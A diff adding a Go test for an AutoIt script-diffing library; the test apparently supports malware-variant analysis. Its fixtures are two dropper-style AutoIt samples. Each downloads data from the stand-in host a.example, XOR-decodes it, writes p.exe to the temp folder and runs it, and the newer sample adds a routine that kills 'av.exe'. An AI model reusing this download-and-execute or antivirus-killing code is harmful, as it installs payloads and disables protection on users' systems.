@@ -0,0 +1,121 @@
+package tests
+
+import (
+	"bytes"
+	"encoding/json"
+	"github.com/x0r19x91/libautoit/diff"
+	"github.com/x0r19x91/libautoit/parser"
+	"strings"
+	"testing"
+)
+
+const variantOld = `Global $gKey = "k1"
+_Main()
+
+Func _Main()
+	Local $sData = InetRead("http://a.example/p")
+	Local $sOut = _Xor($sData, $gKey)
+	FileWrite(@TempDir & "\p.exe", $sOut)
+	Run(@TempDir & "\p.exe")
+EndFunc
+
+Func _Xor($sIn, $sPass)
+	Local $sRes = ""
+	For $i = 1 To StringLen($sIn)
+		$sRes &= Chr(BitXOR(Asc(StringMid($sIn, $i, 1)), Asc(StringMid($sPass, Mod($i, StringLen($sPass)) + 1, 1))))
+	Next
+	Return $sRes
+EndFunc
+
+Func _Unused()
+	MsgBox(0, "", "old")
+EndFunc
+`
+
+const variantNew = `Global $q0 = "k1"
+Fn1()
+
+Func Fn1()
+	Local $q1 = InetRead("http://a.example/p")
+	Local $q2 = Fn2($q1, $q0)
+	If @error Then Exit
+	FileWrite(@TempDir & "\p.exe", $q2)
+	ShellExecute(@TempDir & "\p.exe")
+EndFunc
+
+Func Fn2($z1, $z2)
+	Local $z3 = ""
+	For $z4 = 1 To StringLen($z1)
+		$z3 &= Chr(BitXOR(Asc(StringMid($z1, $z4, 1)), Asc(StringMid($z2, Mod($z4, StringLen($z2)) + 1, 1))))
+	Next
+	Return $z3
+EndFunc
+
+Func Fn3()
+	ProcessClose("av.exe")
+EndFunc
+`
+
+func TestDiff(t *testing.T) {
+	a, err := parser.ParseSource([]byte(variantOld))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := parser.ParseSource([]byte(variantNew))
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := diff.Compare(a, b)
+	got := make(map[string]*diff.FuncDiff)
+	for _, f := range d.Funcs {
+		got[f.Old+">"+f.New] = f
+	}
+	if f := got["_Xor>Fn2"]; f == nil || f.Status != diff.Unchanged {
+		t.Errorf("_Xor: %+v", f)
+	}
+	if f := got[">Fn3"]; f == nil || f.Status != diff.Added {
+		t.Errorf("Fn3: %+v", f)
+	}
+	if f := got["_Unused>"]; f == nil || f.Status != diff.Removed {
+		t.Errorf("_Unused: %+v", f)
+	}
+	if f := got[diff.Main+">"+diff.Main]; f == nil || f.Status != diff.Unchanged {
+		t.Errorf("main: %+v", f)
+	}
+	f := got["_Main>Fn1"]
+	if f == nil || f.Status != diff.Modified || len(f.Hunks) != 1 {
+		t.Fatalf("_Main: %+v", f)
+	}
+	var changes []string
+	for _, l := range f.Hunks[0].Lines {
+		if l.Op != " " {
+			changes = append(changes, l.Op+strings.TrimSpace(l.Text))
+		}
+	}
+	want := []string{
+		`+If @error Then Exit`,
+		`-Run(@TempDir & "\p.exe")`,
+		`+ShellExecute(@TempDir & "\p.exe")`,
+	}
+	if strings.Join(changes, "\n") != strings.Join(want, "\n") {
+		t.Errorf("changes:\n%s", strings.Join(changes, "\n"))
+	}
+
+	var text bytes.Buffer
+	if err := d.WriteText(&text); err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range []string{"renamed _Xor -> Fn2", "modified _Main -> Fn1", "--- _Main:4", "+++ Fn1:4", "@@ -1,6 +1,7 @@", "added Fn3", "removed _Unused"} {
+		if !strings.Contains(text.String(), s) {
+			t.Errorf("%q missing from\n%s", s, text.String())
+		}
+	}
+	var js bytes.Buffer
+	if err := d.WriteJSON(&js); err != nil {
+		t.Fatal(err)
+	}
+	var back diff.Diff
+	if err := json.Unmarshal(js.Bytes(), &back); err != nil || len(back.Funcs) != len(d.Funcs) {
+		t.Errorf("json: %v", err)
+	}
+}